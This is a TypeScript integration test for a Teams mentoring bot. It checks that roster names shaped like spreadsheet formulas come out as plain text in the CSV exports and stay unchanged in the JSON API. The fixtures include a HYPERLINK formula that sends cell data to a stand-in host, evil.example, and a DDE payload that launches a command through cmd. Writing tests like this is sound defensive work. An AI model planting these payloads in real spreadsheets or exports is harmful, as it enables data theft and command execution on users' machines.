import { parse } from 'csv-parse/sync';
import type { TeamsUser } from '../support/activities';
import { type BotHarness, startBotHarness } from '../support/bot-harness';
import { COORDINATOR } from '../support/journey-fixture';
import { call, devToken } from '../support/test-service';

/**
 * Formula injection (issue 12, hole 4): a roster whose names and organisations look like
 * spreadsheet formulas imports as typed; every CSV the product writes shows them as text
 * (a leading '), while the JSON API, and so the tab, keeps the original words.
 */

const FORMULA_NAMES = {
  hyperlink: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  at: '@SUM(1+1)',
  minus: '-2+3 Minus',
  plus: '+Plus Mentee',
};
const ORGANISATION = "+cmd|' /C calc'!A0";

const PEOPLE: (TeamsUser & { email: string; role: 'mentor' | 'mentee'; partner?: string })[] = [
  {
    aadObjectId: 'f0000000-0000-4000-8000-000000000001',
    name: FORMULA_NAMES.hyperlink,
    email: 'hyper@trust.nhs.uk',
    role: 'mentor',
    partner: 'at@trust.nhs.uk',
  },
  {
    aadObjectId: 'f0000000-0000-4000-8000-000000000002',
    name: FORMULA_NAMES.at,
    email: 'at@trust.nhs.uk',
    role: 'mentee',
  },
  {
    aadObjectId: 'f0000000-0000-4000-8000-000000000003',
    name: FORMULA_NAMES.minus,
    email: 'minus@trust.nhs.uk',
    role: 'mentor',
    partner: 'plus@trust.nhs.uk',
  },
  {
    aadObjectId: 'f0000000-0000-4000-8000-000000000004',
    name: FORMULA_NAMES.plus,
    email: 'plus@trust.nhs.uk',
    role: 'mentee',
  },
];

/** A CSV field as a careful writer quotes it. */
const field = (v: string) => (/[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);

let harness: BotHarness;
let url: string;
let cohortId: string;
let coordinator: string;

beforeAll(async () => {
  harness = await startBotHarness({
    COORDINATOR_IDS: COORDINATOR.userId,
    ANNOUNCE_POLL_MS: '50',
    ANNOUNCE_RATE_PER_SECOND: '40',
  });
  url = harness.service.url;
  await harness.drive.setClock('2027-03-01T09:00:00Z');
  for (const person of PEOPLE) await harness.drive.install(person);
  coordinator = await devToken(url, COORDINATOR);
  const cohort = await call<{ id: string }>(url, 'POST', '/api/cohorts', {
    token: coordinator,
    json: { name: 'Formula cohort', startDate: '2027-03-01', endDate: '2027-08-31' },
  });
  cohortId = cohort.body.id;
  const rows = ['email,display_name,role,organisation,entra_object_id,partner_email'];
  for (const p of PEOPLE) {
    rows.push(
      [p.email, p.name, p.role, ORGANISATION, p.aadObjectId, p.partner ?? ''].map(field).join(','),
    );
  }
  const imported = await call(url, 'POST', `/api/cohorts/${cohortId}/roster`, {
    token: coordinator,
    body: rows.join('\n'),
    contentType: 'text/csv',
  });
  expect(imported.status).toBe(201);
});

afterAll(() => harness?.stop());

async function csv(path: string): Promise<string[][]> {
  const response = await fetch(`${url}${path}`, {
    headers: { authorization: `Bearer ${coordinator}` },
  });
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
  return parse(await response.text()) as string[][];
}

const neutralised = (name: string) => `'${name}`;

describe('CSV exports of a roster whose names look like formulas', () => {
  it('health.csv shows every such name as text, and the JSON keeps the original', async () => {
    const [header, ...rows] = await csv(`/api/cohorts/${cohortId}/health.csv`);
    expect(header?.slice(0, 2)).toEqual(['Mentor', 'Mentee']);
    const pairs = rows.map((r) => [r[0], r[1]]).sort();
    expect(pairs).toEqual(
      [
        [neutralised(FORMULA_NAMES.hyperlink), neutralised(FORMULA_NAMES.at)],
        [neutralised(FORMULA_NAMES.minus), neutralised(FORMULA_NAMES.plus)],
      ].sort(),
    );
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const json = await call<{ pairs: { mentor: string; mentee: string }[] }>(
      url,
      'GET',
      `/api/cohorts/${cohortId}/health`,
      { token: coordinator },
    );
    expect(json.body.pairs.map((p) => [p.mentor, p.mentee]).sort()).toEqual(
      [
        [FORMULA_NAMES.hyperlink, FORMULA_NAMES.at],
        [FORMULA_NAMES.minus, FORMULA_NAMES.plus],
      ].sort(),
    );
    const participants = await call<{
      participants: { displayName: string; organisation?: string }[];
    }>(url, 'GET', `/api/cohorts/${cohortId}/participants`, { token: coordinator });
    expect(participants.body.participants.map((p) => p.displayName).sort()).toEqual(
      Object.values(FORMULA_NAMES).sort(),
    );
    expect(participants.body.participants.map((p) => p.organisation)).toEqual(
      PEOPLE.map(() => ORGANISATION),
    );
  });

  it('the announcement report.csv shows every such name as text, and the JSON keeps the original', async () => {
    const created = await call<{ id: string }>(
      url,
      'POST',
      `/api/cohorts/${cohortId}/announcements`,
      { token: coordinator, json: { title: 'Hello', text: 'Welcome', audience: 'cohort' } },
    );
    expect(created.status).toBe(201);
    const path = `/api/cohorts/${cohortId}/announcements/${created.body.id}`;
    type Report = { announcement: { status: string }; recipients: { displayName: string }[] };
    let report: Report;
    for (let waited = 0; ; waited += 100) {
      report = (await call<Report>(url, 'GET', path, { token: coordinator })).body;
      if (report.announcement.status === 'sent' && report.recipients.length === PEOPLE.length) {
        break;
      }
      if (waited > 30_000) throw new Error(`not sent: ${JSON.stringify(report)}`);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    expect(report.recipients.map((r) => r.displayName).sort()).toEqual(
      Object.values(FORMULA_NAMES).sort(),
    );

    const [header, ...rows] = await csv(`${path}/report.csv`);
    expect(header).toEqual(['name', 'status', 'reason', 'sent_at', 'acknowledged_at']);
    expect(rows.map((r) => r[0]).sort()).toEqual(
      Object.values(FORMULA_NAMES).map(neutralised).sort(),
    );
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
